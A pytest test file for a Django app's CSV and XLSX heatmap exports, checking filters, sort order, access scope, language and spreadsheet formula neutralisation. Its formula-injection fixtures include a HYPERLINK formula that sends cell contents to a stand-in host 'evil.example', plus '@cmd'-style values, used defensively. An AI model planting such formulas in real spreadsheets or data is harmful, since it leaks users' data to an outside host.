"""CSV and XLSX exports of the heatmap: same scope, filters and order; formulas neutralised.

The accounts are those of test_heatmap's `build_three` (Alfa 1 gap, Beta 0, Celsa 2).
"""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from django.http import StreamingHttpResponse
from openpyxl import load_workbook

from hexad.accounts.tests.factories import AccountFactory, TierFactory
from hexad.core.exports import safe_cell
from hexad.coverage.tests.test_heatmap import build_three, many_accounts, signed_in
from hexad.people.tests.factories import PersonFactory

pytestmark = pytest.mark.django_db

CSV_URL = "/coverage/export.csv"
XLSX_URL = "/coverage/export.xlsx"
HEADER = [
    "Account", "External id", "Tier", "Industry", "Country", "Account lead", "Gaps",
    "Results Driver: status", "Results Driver: score",
    "Relationship Manager: status", "Relationship Manager: score",
    "Innovator: status", "Innovator: score",
    "Collaborator: status", "Collaborator: score",
    "Technical Expert: status", "Technical Expert: score",
    "Project Manager: status", "Project Manager: score",
]  # fmt: skip


@pytest.fixture(autouse=True)
def _fast_tests(settings: Any) -> None:
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    settings.WHITENOISE_AUTOREFRESH = True


@pytest.fixture
def three(member: Any) -> Any:
    return build_three(member_person=member.person)


def read_csv(response: Any) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # a BOM, so Excel reads UTF-8
    return list(csv.reader(io.StringIO(body[1:])))


def read_xlsx(response: Any) -> tuple[list[list[Any]], Any]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)], sheet


# --- content ------------------------------------------------------------------------------------


def test_csv_has_every_filtered_account_in_heatmap_order(client, leader, three, settings):
    settings.HEXAD_PAGE_SIZE = 2  # every row, not one page

    response = signed_in(client, leader).get(CSV_URL)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="hexad-coverage-')
    assert response["Cache-Control"] == "private, no-store"
    rows = read_csv(response)
    assert rows[0] == HEADER
    assert rows[1:] == [
        ["Celsa", "", "Strategic", "Energy and utilities", "Poland", "", "2",
         "Missing", "0", "Missing", "0", "Missing", "0", "Missing", "0", "Missing", "0",
         "Missing", "0"],
        ["Alfa", "A-1", "Strategic", "Energy and utilities", "Poland", "Anna Nowak", "1",
         "Covered", "60", "Weak", "30", "Missing", "0", "Missing", "0", "Missing", "0",
         "Missing", "0"],
        ["Beta", "", "Key", "Retail", "Poland", "Bartek Kowalski", "0",
         "Covered", "100", "Covered", "60", "Missing", "0", "Missing", "0", "Missing", "0",
         "Missing", "0"],
    ]  # fmt: skip


def test_exports_follow_the_filters_and_the_sort(client, leader, three):
    client = signed_in(client, leader)
    params = {"industry": "energy", "sort": "name", "page": "2"}

    csv_rows = read_csv(client.get(CSV_URL, params))
    xlsx_rows, _sheet = read_xlsx(client.get(XLSX_URL, params))

    assert [row[0] for row in csv_rows[1:]] == ["Alfa", "Celsa"]
    assert [row[0] for row in xlsx_rows[1:]] == ["Alfa", "Celsa"]


def test_xlsx_has_the_same_figures_with_numbers_as_numbers(client, leader, three):
    response = signed_in(client, leader).get(XLSX_URL)

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    rows, sheet = read_xlsx(response)
    assert sheet.title == "Coverage"
    assert rows[0] == HEADER
    assert rows[2][:9] == [
        "Alfa", "A-1", "Strategic", "Energy and utilities", "Poland", "Anna Nowak", 1,
        "Covered", 60,
    ]  # fmt: skip
    assert rows[3][6:11] == [0, "Covered", 100, "Covered", 60]


def test_an_account_never_computed_has_empty_coverage_cells(client, leader, three):
    AccountFactory(name="Nowe", tier=three.strategic, country="")

    rows = read_csv(signed_in(client, leader).get(CSV_URL, {"q": "Nowe"}))

    assert rows[1] == ["Nowe", "", "Strategic", "Industrial manufacturing", "", "", ""] + [""] * 12


def test_bad_filters_are_ignored(client, leader, three):
    client = signed_in(client, leader)

    for params in ({"sort": "evil"}, {"tier": "x"}, {"lead": "999999"}, {"page": "-1"}):
        response = client.get(CSV_URL, params)
        assert response.status_code == 200
        assert len(read_csv(response)) == 4


def test_exports_are_in_the_users_language(client, leader, three):
    leader.language = "pl"
    leader.save()

    rows = read_csv(signed_in(client, leader).get(CSV_URL))

    assert rows[0][0] == "Konto"
    assert rows[0][7].startswith("Motor wyników")
    assert rows[2][7] == "Pokryta"


# --- scope -------------------------------------------------------------------------------------


def test_an_outsider_exports_nothing(client, outsider, three):
    client = signed_in(client, outsider)

    csv_rows = read_csv(client.get(CSV_URL))
    xlsx_rows, _sheet = read_xlsx(client.get(XLSX_URL))

    assert csv_rows == [HEADER]
    assert xlsx_rows == [HEADER]


def test_a_member_exports_their_accounts_only(client, member, three):
    client = signed_in(client, member)

    csv_rows = read_csv(client.get(CSV_URL, {"q": "a"}))
    xlsx_rows, _sheet = read_xlsx(client.get(XLSX_URL))

    assert [row[0] for row in csv_rows[1:]] == ["Alfa"]
    assert [row[0] for row in xlsx_rows[1:]] == ["Alfa"]


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL])
def test_exports_need_a_signed_in_user_and_get(client, leader, three, url):
    anonymous = client.get(url)
    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith("/login/")

    assert signed_in(client, leader).post(url).status_code == 405


# --- formula injection (QUALITY.md Q6) ----------------------------------------------------------

PAYLOADS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "external_id": "+41 22 555",
    "tier": "-2+3",
    "lead": "@SUM(A1:A9)",
}


@pytest.fixture
def poisoned(leader: Any) -> Any:
    return AccountFactory(
        name=PAYLOADS["name"],
        external_id=PAYLOADS["external_id"],
        tier=TierFactory(name=PAYLOADS["tier"]),
        lead=PersonFactory(full_name=PAYLOADS["lead"]),
    )


def test_csv_neutralises_formulas(client, leader, poisoned):
    rows = read_csv(signed_in(client, leader).get(CSV_URL))

    name, external_id, tier, _industry, _country, lead = rows[1][:6]
    assert name == "'" + PAYLOADS["name"]
    assert external_id == "'" + PAYLOADS["external_id"]
    assert tier == "'" + PAYLOADS["tier"]
    assert lead == "'" + PAYLOADS["lead"]


def test_xlsx_writes_formula_like_text_as_strings(client, leader, poisoned):
    _rows, sheet = read_xlsx(signed_in(client, leader).get(XLSX_URL))

    cells = {cell.column_letter: cell for cell in sheet[2]}
    for letter, key in (("A", "name"), ("B", "external_id"), ("C", "tier"), ("F", "lead")):
        assert cells[letter].value == PAYLOADS[key]
        assert cells[letter].data_type == "s", f"{key} is stored as {cells[letter].data_type}"
        assert cells[letter].quotePrefix
    raw = client.get(XLSX_URL).content
    assert b"<f>" not in _sheet_xml(raw)


def _sheet_xml(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def test_xlsx_drops_characters_xml_cannot_hold(client, leader, three):
    three.beta.name = "Beta\x07\x1b SA"
    three.beta.save()

    rows, _sheet = read_xlsx(signed_in(client, leader).get(XLSX_URL))

    assert rows[3][0] == "Beta SA"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+48 600", "'+48 600"),
        ("-1", "'-1"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("Acme = Best", "Acme = Best"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (42, 42),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


# --- queries --------------------------------------------------------------------------------------


@pytest.mark.parametrize("count", [3, 30])
def test_export_queries_do_not_grow_with_the_rows(client, leader, count, django_assert_num_queries):
    many_accounts(count)
    client = signed_in(client, leader)
    # session, user; the roles; the ordered ids of the filtered accounts; then per chunk of
    # 1,000 accounts: the accounts (tier, lead, stored gaps), their cells.
    with django_assert_num_queries(6):
        response = client.get(CSV_URL)
        rows = read_csv(response)
    assert len(rows) == count + 1
